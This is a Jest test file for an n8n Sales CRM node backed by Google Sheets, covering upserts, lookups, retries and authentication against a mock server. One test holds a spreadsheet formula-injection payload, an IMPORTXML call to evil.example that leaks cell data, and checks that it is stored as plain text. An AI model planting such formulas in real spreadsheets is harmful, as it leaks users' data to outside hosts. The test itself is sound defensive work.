/**
 * Sales CRM (Sheets) run inside n8n-core against the local Sheets API server: parameters,
 * credentials (both types), items, pairedItem, continueOnFail, API-call counts and retries.
 */
import { generateKeyPairSync } from 'node:crypto';
import { PACKAGE_NAME, runNode, runWorkflow } from '../harness/runWorkflow';
import { DEFAULT_TEST_TOKEN, startSheetsServer, type SheetsServer } from '../servers/sheetsServer';
import { STANDARD_TABS } from '../../nodes/shared/sheets/schema';

const keys = generateKeyPairSync('rsa', { modulusLength: 2048 });
const clientEmail = 'crm-bot@solo-sales.iam.gserviceaccount.com';
let server: SheetsServer;

beforeAll(async () => {
	server = await startSheetsServer({
		serviceAccount: { clientEmail, publicKeyPem: keys.publicKey.export({ type: 'spki', format: 'pem' }).toString() },
	});
});
afterAll(async () => server.close());

function oauth2() {
	return {
		googleSheetsCrmOAuth2Api: {
			apiBaseUrl: server.url,
			grantType: 'authorizationCode',
			clientId: 'client',
			clientSecret: 'secret',
			accessTokenUrl: server.tokenUrl,
			authUrl: `${server.url}/auth`,
			authentication: 'body',
			scope: 'https://www.googleapis.com/auth/spreadsheets',
			oauthTokenData: { access_token: DEFAULT_TEST_TOKEN, token_type: 'Bearer' },
		},
	};
}

function serviceAccount() {
	return {
		googleSheetsCrmServiceAccountApi: {
			clientEmail,
			// Pasted from the JSON key file, with literal \n sequences.
			privateKey: keys.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString().replace(/\n/g, '\\n'),
			apiBaseUrl: server.url,
			tokenUrl: server.tokenUrl,
		},
	};
}

const LEAD_HEADERS = ['email', 'name', 'company', 'stage', 'score', 'notes'];

function callsSince(start: number) {
	return server.requests.slice(start);
}

describe('Upsert Records', () => {
	test('updates only the given fields of existing rows, appends new keys once, keeps a person\'s other cells', async () => {
		const id = server.createSpreadsheet({
			Leads: [LEAD_HEADERS, ['ann@x.com', 'Ann', 'Acme', 'New', 10, 'met at fair'], ['bob@x.com', 'Bob', '', 'MQL', 40, '']],
		});
		const start = server.requests.length;
		const res = await runNode({
			type: 'salesCrmSheet',
			parameters: { operation: 'upsert', spreadsheetId: `https://docs.google.com/spreadsheets/d/${id}/edit#gid=0`, tab: 'Leads', keyField: 'email' },
			credentials: oauth2(),
			items: [
				{ email: 'ann@x.com', score: 55, company: '' }, // empty company must not clear "Acme"
				{ email: 'cat@x.com', name: 'Cat', stage: 'New', formId: 'f-1' }, // formId is not a column
				{ email: 'bob@x.com', stage: 'MQL' }, // nothing changes
				{ email: 'cat@x.com', company: 'Cats Ltd' }, // same new key: merged into one row
			],
		});
		expect(res.error).toBeUndefined();
		expect(server.getValues(id, 'Leads')).toEqual([
			LEAD_HEADERS,
			['ann@x.com', 'Ann', 'Acme', 'New', 55, 'met at fair'],
			['bob@x.com', 'Bob', null, 'MQL', 40],
			['cat@x.com', 'Cat', 'Cats Ltd', 'New'],
		]);
		const crm = res.outputs[0].map((json) => json.crm as Record<string, unknown>);
		expect(crm.map((c) => [c.action, c.rowNumber])).toEqual([
			['updated', 2],
			['created', 4],
			['unchanged', 3],
			['created', 4],
		]);
		expect(crm[1].ignoredFields).toEqual(['formId']);
		expect(res.outputs[0][1]).toMatchObject({ email: 'cat@x.com', formId: 'f-1' });
		expect(res.items[0].map((item) => item.pairedItem)).toEqual([{ item: 0 }, { item: 1 }, { item: 2 }, { item: 3 }]);
		// 1 batchGet + 1 batchUpdate + 1 append; the update writes the one changed cell only.
		const calls = callsSince(start);
		expect(calls.map((c) => `${c.method} ${c.path.replace(`/v4/spreadsheets/${id}`, '')}`)).toEqual([
			'GET /values:batchGet',
			'POST /values:batchUpdate',
			"POST /values/'Leads'!A1:append",
		]);
		expect((calls[1].body as { data: unknown[] }).data).toEqual([{ range: "'Leads'!E2", majorDimension: 'ROWS', values: [[55]] }]);
		expect(crm[0].apiCalls).toBe(3);
	});

	test('a formula-looking web-form value round-trips as text (RAW default, and USER_ENTERED neutralized)', async () => {
		const id = server.createSpreadsheet({ Leads: [LEAD_HEADERS] });
		const evil = '=IMPORTXML("https://evil.example/?q="&A1,"//a")';
		for (const valueInputOption of ['RAW', 'USER_ENTERED']) {
			const email = `${valueInputOption}@x.com`;
			const res = await runNode({
				type: 'salesCrmSheet',
				parameters: { operation: 'upsert', spreadsheetId: id, options: { valueInputOption } },
				credentials: oauth2(),
				items: [{ email, name: evil, notes: '+1 555 0100', company: '@acme' }],
			});
			expect(res.error).toBeUndefined();
			const read = await runNode({
				type: 'salesCrmSheet',
				parameters: { operation: 'getRecords', spreadsheetId: id, returnMode: 'byKey', keyValue: '={{ $json.email }}' },
				credentials: oauth2(),
				items: [{ email }],
			});
			expect(read.outputs[0]).toEqual([
				expect.objectContaining({ email, name: evil, notes: '+1 555 0100', company: '@acme' }),
			]);
			const row = server.getValues(id, 'Leads').findIndex((r) => r[0] === email) + 1;
			expect(server.getCell(id, 'Leads', `B${row}`)?.formula).toBeUndefined();
		}
	});

	test('five 429s in a row, then success: completes, nothing lost, no duplicate row', async () => {
		const id = server.createSpreadsheet({ Leads: [LEAD_HEADERS, ['ann@x.com', 'Ann', '', 'New', 10]] });
		server.failNext(429, 5, { retryAfterSeconds: 0 });
		const start = server.requests.length;
		const res = await runNode({
			type: 'salesCrmSheet',
			parameters: { operation: 'upsert', spreadsheetId: id },
			credentials: oauth2(),
			items: [{ email: 'ann@x.com', score: 80 }, { email: 'new@x.com', name: 'New Person' }],
		});
		expect(res.error).toBeUndefined();
		expect(server.getValues(id, 'Leads')).toEqual([LEAD_HEADERS, ['ann@x.com', 'Ann', null, 'New', 80], ['new@x.com', 'New Person']]);
		expect(callsSince(start).map((c) => c.status)).toEqual([429, 429, 429, 429, 429, 200, 200, 200]);
		expect(res.outputs[0][0].crm).toMatchObject({ apiCalls: 3, retries: 5 });
	});

	test.each([500, 502, 504] as const)(
		'an append that fails with %i after Google applied it is not repeated: no duplicate row, a clear error',
		async (status) => {
			const id = server.createSpreadsheet({ Leads: [LEAD_HEADERS, ['ann@x.com', 'Ann', '', 'New', 10]] });
			server.failNext(status, 1, { only: /:append$/, afterApplying: true, retryAfterSeconds: 0 });
			const start = server.requests.length;
			const res = await runNode({
				type: 'salesCrmSheet',
				parameters: { operation: 'upsert', spreadsheetId: id },
				credentials: oauth2(),
				items: [{ email: 'ann@x.com', score: 80 }, { email: 'new@x.com', name: 'New Person' }],
			});
			expect(res.error?.message).toMatch(new RegExp(`^Google Sheets API error \\(${status}.*\\) while adding rows or tabs; not retried`));
			expect(res.error?.description).toMatch(/Look at the tab before running the workflow again/);
			expect(server.getValues(id, 'Leads')).toEqual([LEAD_HEADERS, ['ann@x.com', 'Ann', null, 'New', 80], ['new@x.com', 'New Person']]);
			expect(callsSince(start).map((c) => `${c.method} ${c.status}`)).toEqual(['GET 200', 'POST 200', `POST ${status}`]);
		},
	);

	test('an append refused with 503 is retried and lands once; a cell update answered with 504 after applying is retried', async () => {
		const id = server.createSpreadsheet({ Leads: [LEAD_HEADERS, ['ann@x.com', 'Ann', '', 'New', 10]] });
		server.failNext(504, 1, { only: /:batchUpdate$/, afterApplying: true, retryAfterSeconds: 0 });
		server.failNext(503, 2, { only: /:append$/, retryAfterSeconds: 0 });
		const start = server.requests.length;
		const res = await runNode({
			type: 'salesCrmSheet',
			parameters: { operation: 'upsert', spreadsheetId: id },
			credentials: oauth2(),
			items: [{ email: 'ann@x.com', score: 80 }, { email: 'new@x.com', name: 'New Person' }],
		});
		expect(res.error).toBeUndefined();
		expect(server.getValues(id, 'Leads')).toEqual([LEAD_HEADERS, ['ann@x.com', 'Ann', null, 'New', 80], ['new@x.com', 'New Person']]);
		expect(callsSince(start).map((c) => c.status)).toEqual([200, 504, 200, 503, 503, 200]);
		expect(res.outputs[0][1].crm).toMatchObject({ action: 'created', rowNumber: 3, apiCalls: 3, retries: 3 });
	});

	describe('Values for New Records', () => {
		const headers = ['email', 'name', 'stage', 'source', 'createdAt'];
		const newRecordValues = {
			values: [
				{ fieldName: 'stage', fieldValue: 'New' },
				{ fieldName: 'createdAt', fieldValue: '={{ $now.toISO() }}' },
				{ fieldName: 'source', fieldValue: '={{ $json.utm }}' },
			],
		};

		test('a new lead is created at stage New; a lead who submits the form again keeps their stage and createdAt', async () => {
			const id = server.createSpreadsheet({ Leads: [headers, ['ann@x.com', 'Ann', 'SQL', 'ads', '2024-01-02T03:04:05.000Z']] });
			const start = server.requests.length;
			const before = Date.now();
			const res = await runNode({
				type: 'salesCrmSheet',
				parameters: { operation: 'upsert', spreadsheetId: id, newRecordValues },
				credentials: oauth2(),
				items: [
					{ email: 'ann@x.com', name: 'Ann Lee', utm: 'newsletter' },
					{ email: 'cat@x.com', name: 'Cat', utm: 'linkedin' },
				],
			});
			expect(res.error).toBeUndefined();
			const values = server.getValues(id, 'Leads');
			expect(values[1]).toEqual(['ann@x.com', 'Ann Lee', 'SQL', 'ads', '2024-01-02T03:04:05.000Z']);
			expect(values[2].slice(0, 4)).toEqual(['cat@x.com', 'Cat', 'New', 'linkedin']);
			const createdAt = Date.parse(String(values[2][4]));
			expect(createdAt).toBeGreaterThanOrEqual(before - 1000);
			expect(createdAt).toBeLessThanOrEqual(Date.now() + 1000);
			expect(res.outputs[0].map((o) => (o.crm as { changedFields: string[] }).changedFields)).toEqual([
				['name'],
				['stage', 'createdAt', 'source', 'email', 'name'],
			]);
			expect(callsSince(start)).toHaveLength(3);

			// A person moves Cat on; Cat submits the form again: the stage is not reset.
			server.setCell(id, 'Leads', 'C3', 'MQL');
			const again = await runNode({
				type: 'salesCrmSheet',
				parameters: { operation: 'upsert', spreadsheetId: id, newRecordValues },
				credentials: oauth2(),
				items: [{ email: 'cat@x.com', name: 'Cat', utm: 'webinar' }],
			});
			expect(again.outputs[0][0].crm).toMatchObject({ action: 'unchanged', rowNumber: 3 });
			expect(server.getValues(id, 'Leads')[2].slice(0, 4)).toEqual(['cat@x.com', 'Cat', 'MQL', 'linkedin']);
		});

		test('a bad column in Values for New Records (Unknown Fields: Error) fails only the new items (On Error: Continue)', async () => {
			const id = server.createSpreadsheet({ Leads: [headers, ['ann@x.com', 'Ann', 'SQL']] });
			const res = await runNode({
				type: 'salesCrmSheet',
				parameters: {
					operation: 'upsert',
					spreadsheetId: id,
					options: { unknownFields: 'error' },
					newRecordValues: { values: [{ fieldName: '={{ $json.email === "dan@x.com" ? "source" : "owner" }}', fieldValue: 'x' }] },
				},
				credentials: oauth2(),
				onError: 'continueRegularOutput',
				items: [
					{ email: 'ann@x.com', name: 'Ann Lee' }, // existing: new-record values not even evaluated
					{ email: 'cat@x.com', name: 'Cat' },
					{ email: 'dan@x.com' },
				],
			});
			expect(res.error).toBeUndefined();
			expect(res.outputs[0][1]).toEqual({ error: 'Item 1: field "owner" is not a column of tab "Leads"', errorField: 'owner', errorItemIndex: 1 });
			expect(res.items[0].map((i) => i.pairedItem)).toEqual([{ item: 0 }, { item: 1 }, { item: 2 }]);
			expect(server.getValues(id, 'Leads')).toEqual([headers, ['ann@x.com', 'Ann Lee', 'SQL'], ['dan@x.com', null, null, 'x']]);
		});
	});

	test('a person editing another cell of the same row between read and write keeps their edit', async () => {
		const id = server.createSpreadsheet({ Leads: [LEAD_HEADERS, ['ann@x.com', 'Ann', '', 'New', 10, '']] });
		server.beforeNextWrite(() => server.setCell(id, 'Leads', 'F2', 'called her, wants a demo'));
		const res = await runNode({
			type: 'salesCrmSheet',
			parameters: { operation: 'upsert', spreadsheetId: id },
			credentials: oauth2(),
			items: [{ email: 'ann@x.com', stage: 'MQL', score: 70 }],
		});
		expect(res.error).toBeUndefined();
		expect(server.getValues(id, 'Leads')[1]).toEqual(['ann@x.com', 'Ann', null, 'MQL', 70, 'called her, wants a demo']);
	});

	test('limit: the same new key added elsewhere between read and append lands twice, and the next upsert reports it by row', async () => {
		const id = server.createSpreadsheet({ Leads: [LEAD_HEADERS, ['ann@x.com', 'Ann']] });
		// Another execution (or a person) adds cat@x.com after this one has read the tab.
		server.beforeNextWrite(() => server.setCell(id, 'Leads', 'A3', 'cat@x.com'));
		const res = await runNode({
			type: 'salesCrmSheet',
			parameters: { operation: 'upsert', spreadsheetId: id },
			credentials: oauth2(),
			items: [{ email: 'cat@x.com', name: 'Cat' }],
		});
		expect(res.error).toBeUndefined();
		const next = await runNode({
			type: 'salesCrmSheet',
			parameters: { operation: 'upsert', spreadsheetId: id },
			credentials: oauth2(),
			items: [{ email: 'dan@x.com', name: 'Dan' }],
		});
		expect(next.error?.message).toBe(
			'Tab "Leads" has duplicate keys in column "email" (A): "cat@x.com" at rows 3 and 4. Make each key unique in the sheet; rows are never guessed',
		);
	});

	test('10,000 records: constant API calls (3), counted on the server', async () => {
		const rows = Array.from({ length: 5000 }, (_, i) => [`lead${i}@x.com`, `Lead ${i}`, '', 'New', i % 100]);
		const id = server.createSpreadsheet({ Leads: [LEAD_HEADERS, ...rows] });
		const items = Array.from({ length: 10_000 }, (_, i) => ({ email: `lead${i}@x.com`, score: (i * 7) % 100, stage: i % 2 ? 'MQL' : 'New' }));
		const start = server.requests.length;
		const res = await runNode({ type: 'salesCrmSheet', parameters: { operation: 'upsert', spreadsheetId: id }, credentials: oauth2(), items });
		expect(res.error).toBeUndefined();
		expect(callsSince(start)).toHaveLength(3);
		const values = server.getValues(id, 'Leads');
		expect(values).toHaveLength(10_001);
		// Brute-force check of every row against the items.
		const byEmail = new Map(values.slice(1).map((r) => [r[0], r]));
		for (const item of items) {
			const row = byEmail.get(item.email)!;
			expect([row[3], row[4]]).toEqual([item.stage, item.score]);
		}
	});

	test('per-item expression in Define Below mode; bad item → error item with On Error: Continue', async () => {
		const id = server.createSpreadsheet({ Leads: [LEAD_HEADERS] });
		const res = await runNode({
			type: 'salesCrmSheet',
			parameters: {
				operation: 'upsert',
				spreadsheetId: id,
				dataMode: 'define',
				fieldValues: {
					values: [
						{ fieldName: 'email', fieldValue: '={{ $json.mail.toLowerCase() }}' },
						{ fieldName: 'name', fieldValue: '={{ $json.first }} {{ $json.last }}' },
					],
				},
			},
			credentials: oauth2(),
			onError: 'continueRegularOutput',
			items: [{ mail: 'ANN@X.COM', first: 'Ann', last: 'Lee' }, { mail: '', first: 'No', last: 'Key' }],
		});
		expect(res.error).toBeUndefined();
		expect(server.getValues(id, 'Leads')).toEqual([LEAD_HEADERS, ['ann@x.com', 'Ann Lee']]);
		expect(res.outputs[0][1]).toEqual({ error: 'Item 1: the key field "email" is empty; every record needs a key', errorField: 'email', errorItemIndex: 1 });
		expect(res.items[0][1].pairedItem).toEqual({ item: 1 });
	});

	test('without continueOnFail a bad item stops the node before anything is written', async () => {
		const id = server.createSpreadsheet({ Leads: [LEAD_HEADERS] });
		const res = await runNode({
			type: 'salesCrmSheet',
			parameters: { operation: 'upsert', spreadsheetId: id, options: { unknownFields: 'error' } },
			credentials: oauth2(),
			items: [{ email: 'a@x.com' }, { email: 'b@x.com', budget: 5000 }],
		});
		expect(res.error).toMatchObject({ message: 'Item 1: field "budget" is not a column of tab "Leads"', itemIndex: 1 });
		expect(server.getValues(id, 'Leads')).toEqual([LEAD_HEADERS]);
	});

	test.each([
		[{ Leads: [LEAD_HEADERS, ['a@x.com'], ['a@x.com']] }, 'Leads', /duplicate keys in column "email" \(A\): "a@x.com" at rows 2 and 3/],
		[{ Deals: [['id']] }, 'Leads', /Tab "Leads" not found in the spreadsheet/],
		[{ Leads: [['name', 'stage']] }, 'Leads', /no key column "email"/],
		[{ Leads: [] }, 'Leads', /Tab "Leads" has no header row: row 1 is empty/],
	])('bad sheet %# fails the node with a clear message', async (tabs, tab, message) => {
		const id = server.createSpreadsheet(tabs);
		const res = await runNode({
			type: 'salesCrmSheet',
			parameters: { operation: 'upsert', spreadsheetId: id, tab },
			credentials: oauth2(),
			items: [{ email: 'a@x.com' }],
		});
		expect(res.error?.message).toMatch(message);
	});

	test('configuration errors: bad spreadsheet ID, unknown spreadsheet', async () => {
		const bad = await runNode({
			type: 'salesCrmSheet',
			parameters: { operation: 'upsert', spreadsheetId: 'not an id!' },
			credentials: oauth2(),
			items: [{ email: 'a@x.com' }],
		});
		expect(bad.error?.message).toBe('Spreadsheet ID "not an id!" is neither a spreadsheet ID nor a Google Sheets URL');
		const missing = await runNode({
			type: 'salesCrmSheet',
			parameters: { operation: 'upsert', spreadsheetId: 'doesNotExist' },
			credentials: oauth2(),
			items: [{ email: 'a@x.com' }],
		});
		expect(missing.error?.message).toBe('Google Sheets API error (404 NOT_FOUND): Requested entity was not found.');
	});
});

describe('Get Records', () => {
	const rows = [LEAD_HEADERS, ['ann@x.com', 'Ann', 'Acme', 'MQL', 70], ['bob@x.com', 'Bob', 'Acme', 'New', 20], [], ['cat@x.com', 'Cat', 'Zed', 'MQL', '70']];

	test('all rows, with rowNumber, blank rows skipped', async () => {
		const id = server.createSpreadsheet({ Leads: rows });
		const res = await runNode({ type: 'salesCrmSheet', parameters: { operation: 'getRecords', spreadsheetId: id }, credentials: oauth2() });
		expect(res.outputs[0].map((r) => [r.rowNumber, r.email])).toEqual([[2, 'ann@x.com'], [3, 'bob@x.com'], [5, 'cat@x.com']]);
		expect(res.outputs[0][0]).toEqual({ rowNumber: 2, email: 'ann@x.com', name: 'Ann', company: 'Acme', stage: 'MQL', score: 70, notes: '' });
	});

	test('filtered by field values (per item), numbers match their text', async () => {
		const id = server.createSpreadsheet({ Leads: rows });
		const res = await runNode({
			type: 'salesCrmSheet',
			parameters: {
				operation: 'getRecords',
				spreadsheetId: id,
				returnMode: 'filter',
				filters: { conditions: [{ field: 'stage', value: '={{ $json.stage }}' }, { field: 'score', value: '70' }] },
			},
			credentials: oauth2(),
			items: [{ stage: 'MQL' }, { stage: 'New' }],
		});
		expect(res.outputs[0].map((r) => r.email)).toEqual(['ann@x.com', 'cat@x.com']);
		expect(res.items[0].map((i) => i.pairedItem)).toEqual([{ item: 0 }, { item: 0 }]);
	});

	test('one API call for any number of lookups', async () => {
		const id = server.createSpreadsheet({ Leads: rows });
		const start = server.requests.length;
		const res = await runNode({
			type: 'salesCrmSheet',
			parameters: { operation: 'getRecords', spreadsheetId: id, returnMode: 'byKey', keyValue: '={{ $json.email }}' },
			credentials: oauth2(),
			items: [{ email: 'bob@x.com' }, { email: 'nobody@x.com' }, { email: ' ann@x.com ' }],
		});
		expect(res.outputs[0].map((r) => [r.email, r.rowNumber])).toEqual([['bob@x.com', 3], ['ann@x.com', 2]]);
		expect(res.items[0].map((i) => i.pairedItem)).toEqual([{ item: 0 }, { item: 2 }]);
		expect(callsSince(start)).toHaveLength(1);
	});
});

describe('Get Records on a tab with only a header row', () => {
	test.each([
		['all', {}],
		['byKey', { keyValue: 'ann@x.com' }],
		['filter', { filters: { conditions: [{ field: 'stage', value: 'New' }] } }],
	])('%s: zero items, no error', async (returnMode, extra) => {
		const id = server.createSpreadsheet({ Leads: [LEAD_HEADERS] });
		const res = await runNode({
			type: 'salesCrmSheet',
			parameters: { operation: 'getRecords', spreadsheetId: id, returnMode, ...extra },
			credentials: oauth2(),
		});
		expect(res.error).toBeUndefined();
		expect(res.outputs).toEqual([[]]);
	});

	test('with Always Output Data, n8n supplies one empty item and the next node runs', async () => {
		const id = server.createSpreadsheet({ Leads: [LEAD_HEADERS], Notes: [['note']] });
		const run = await runWorkflow(
			{
				nodes: [
					{ id: 'a', name: 'Start', type: 'n8n-nodes-base.manualTrigger', typeVersion: 1, position: [0, 0], parameters: {} },
					{
						id: 'b',
						name: 'Read Leads',
						type: `${PACKAGE_NAME}.salesCrmSheet`,
						typeVersion: 1,
						position: [200, 0],
						parameters: { operation: 'getRecords', spreadsheetId: id },
						credentials: { googleSheetsCrmOAuth2Api: { id: '1', name: 'CRM' } },
						alwaysOutputData: true,
					},
					{
						id: 'c',
						name: 'Append',
						type: `${PACKAGE_NAME}.salesCrmSheet`,
						typeVersion: 1,
						position: [400, 0],
						parameters: { operation: 'appendActivity', spreadsheetId: id, activityTab: 'Notes', dataMode: 'define', fieldValues: { values: [{ fieldName: 'note', fieldValue: '={{ $json.email ?? "no leads yet" }}' }] } },
						credentials: { googleSheetsCrmOAuth2Api: { id: '1', name: 'CRM' } },
					},
				],
				connections: {
					Start: { main: [[{ node: 'Read Leads', type: 'main', index: 0 }]] },
					'Read Leads': { main: [[{ node: 'Append', type: 'main', index: 0 }]] },
				},
			},
			{ credentials: oauth2() },
		);
		expect(run.error).toBeUndefined();
		expect(run.nodeOutputs('Read Leads')).toEqual([[{ json: {}, pairedItem: [{ item: 0, input: 0 }] }]]);
		expect(server.getValues(id, 'Notes')).toEqual([['note'], ['no leads yet']]);
	});
});

describe('Append Activity', () => {
	test('appends one row per item in column order, fills id/time/executionId, 2 API calls', async () => {
		const headers = STANDARD_TABS.find((t) => t.tab === 'Touchpoints')!.headers;
		const id = server.createSpreadsheet({ Touchpoints: [headers, ['old', '2024-01-01', 'x@x.com', 'email']] });
		const start = server.requests.length;
		const res = await runNode({
			type: 'salesCrmSheet',
			parameters: { operation: 'appendActivity', spreadsheetId: id },
			credentials: oauth2(),
			executionId: 'exec-42',
			items: [
				{ email: 'ann@x.com', type: 'reply', subject: 'Re: demo' },
				{ email: 'bob@x.com', type: 'call', time: '2024-05-01T10:00:00Z' },
			],
		});
		expect(res.error).toBeUndefined();
		const values = server.getValues(id, 'Touchpoints');
		expect(values[2]).toEqual(['exec-42-0-0', expect.stringMatching(/^\d{4}-\d\d-\d\dT/), 'ann@x.com', 'reply', null, null, 'Re: demo', null, 'exec-42']);
		expect(values[3]).toEqual(['exec-42-0-1', '2024-05-01T10:00:00Z', 'bob@x.com', 'call', null, null, null, null, 'exec-42']);
		expect(res.outputs[0].map((o) => (o.crm as { rowNumber: number }).rowNumber)).toEqual([3, 4]);
		expect(callsSince(start)).toHaveLength(2);
	});
});

describe('Append Activity to the Errors tab', () => {
	test('logs rejected input with time, workflow and execution filled in; a formula-looking payload stays text', async () => {
		const id = server.createSpreadsheet({ Errors: [STANDARD_TABS.find((t) => t.tab === 'Errors')!.headers] });
		const res = await runNode({
			type: 'salesCrmSheet',
			parameters: {
				operation: 'appendActivity',
				spreadsheetId: id,
				activityTab: 'Errors',
				dataMode: 'define',
				fieldValues: {
					values: [
						{ fieldName: 'source', fieldValue: 'lead form webhook' },
						{ fieldName: 'itemIndex', fieldValue: '={{ $json.errorItemIndex }}' },
						{ fieldName: 'field', fieldValue: '={{ $json.errorField }}' },
						{ fieldName: 'value', fieldValue: '={{ $json.email }}' },
						{ fieldName: 'message', fieldValue: '={{ $json.error }}' },
					],
				},
			},
			credentials: oauth2(),
			executionId: 'exec-7',
			// What a node with On Error: Continue emits for a bad item, plus the payload's field.
			items: [{ error: 'Item 3: field "email" is "=HYPERLINK(1)", not an email address', errorField: 'email', errorItemIndex: 3, email: '=HYPERLINK(1)' }],
		});
		expect(res.error).toBeUndefined();
		const row = server.getValues(id, 'Errors')[1];
		expect(row).toEqual([
			expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
			'test', // the harness's workflow name
			'exec-7',
			'lead form webhook',
			3, // a whole expression keeps its type
			'email',
			'=HYPERLINK(1)',
			'Item 3: field "email" is "=HYPERLINK(1)", not an email address',
		]);
		expect(server.getCell(id, 'Errors', 'G2')?.formula).toBeUndefined();
		expect(res.outputs[0][0].crm).toMatchObject({ action: 'appended', tab: 'Errors', rowNumber: 2, apiCalls: 2 });
	});
});

describe('Set Up CRM Spreadsheet', () => {
	test('creates missing standard tabs with headers, leaves existing tabs alone, reports missing columns', async () => {
		const id = server.createSpreadsheet({ Leads: [['email', 'name'], ['a@x.com', 'Ann']], Deals: [] });
		const res = await runNode({
			type: 'salesCrmSheet',
			parameters: { operation: 'setUpSpreadsheet', spreadsheetId: id, authentication: 'serviceAccount' },
			credentials: serviceAccount(),
			items: [{}],
		});
		expect(res.error).toBeUndefined();
		const out = res.outputs[0][0];
		// Every standard tab by default: Leads and Deals exist (Deals with an empty row 1), the rest are new.
		const standardTabs = STANDARD_TABS.map((t) => t.tab);
		expect(standardTabs).toEqual(expect.arrayContaining(['Orders', 'Variants', 'ContentCalendar', 'IntentRules', 'FAQ', 'Errors']));
		expect(out.createdTabs).toEqual(standardTabs.filter((t) => t !== 'Leads' && t !== 'Deals'));
		expect(out.headersWritten).toEqual(standardTabs.filter((t) => t !== 'Leads'));
		expect(server.getValues(id, 'Errors')).toEqual([['time', 'workflow', 'executionId', 'source', 'itemIndex', 'field', 'value', 'message']]);
		expect(out.alreadySetUp).toEqual(['Leads']);
		expect((out.missingColumns as Record<string, string[]>).Leads).toContain('stage');
		for (const standard of STANDARD_TABS.filter((t) => t.tab !== 'Leads')) {
			expect(server.getValues(id, standard.tab)).toEqual([standard.headers]);
		}
		expect(server.getValues(id, 'Leads')).toEqual([['email', 'name'], ['a@x.com', 'Ann']]);
		expect(out.apiCalls).toBe(4);
		// Running it again changes nothing.
		const again = await runNode({
			type: 'salesCrmSheet',
			parameters: { operation: 'setUpSpreadsheet', spreadsheetId: id, authentication: 'serviceAccount' },
			credentials: serviceAccount(),
		});
		expect(again.outputs[0][0]).toMatchObject({ createdTabs: [], headersWritten: [], apiCalls: 2 });
	});
});

describe('service account authentication', () => {
	test('the token is fetched once and reused across requests', async () => {
		const id = server.createSpreadsheet({ Leads: [LEAD_HEADERS] });
		const before = server.issuedTokens;
		const res = await runNode({
			type: 'salesCrmSheet',
			parameters: { operation: 'upsert', spreadsheetId: id, authentication: 'serviceAccount' },
			credentials: serviceAccount(),
			items: [{ email: 'a@x.com', name: 'A' }],
		});
		expect(res.error).toBeUndefined();
		expect(server.issuedTokens - before).toBe(1);
		expect(server.getValues(id, 'Leads')).toEqual([LEAD_HEADERS, ['a@x.com', 'A']]);
	});

	test('an expired stored token (401) is replaced once and the request goes through; 5xx answers are retried', async () => {
		const id = server.createSpreadsheet({ Leads: [LEAD_HEADERS] });
		const before = server.issuedTokens;
		server.failNext(503, 2, { retryAfterSeconds: 0 });
		const res = await runNode({
			type: 'salesCrmSheet',
			parameters: { operation: 'upsert', spreadsheetId: id, authentication: 'serviceAccount' },
			credentials: { googleSheetsCrmServiceAccountApi: { ...serviceAccount().googleSheetsCrmServiceAccountApi, accessToken: 'ya29.expired' } },
			items: [{ email: 'a@x.com', name: 'A' }],
		});
		expect(res.error).toBeUndefined();
		expect(server.issuedTokens - before).toBe(1);
		expect(res.outputs[0][0].crm).toMatchObject({ apiCalls: 2, retries: 2 });
		expect(server.getValues(id, 'Leads')).toEqual([LEAD_HEADERS, ['a@x.com', 'A']]);
	});
});
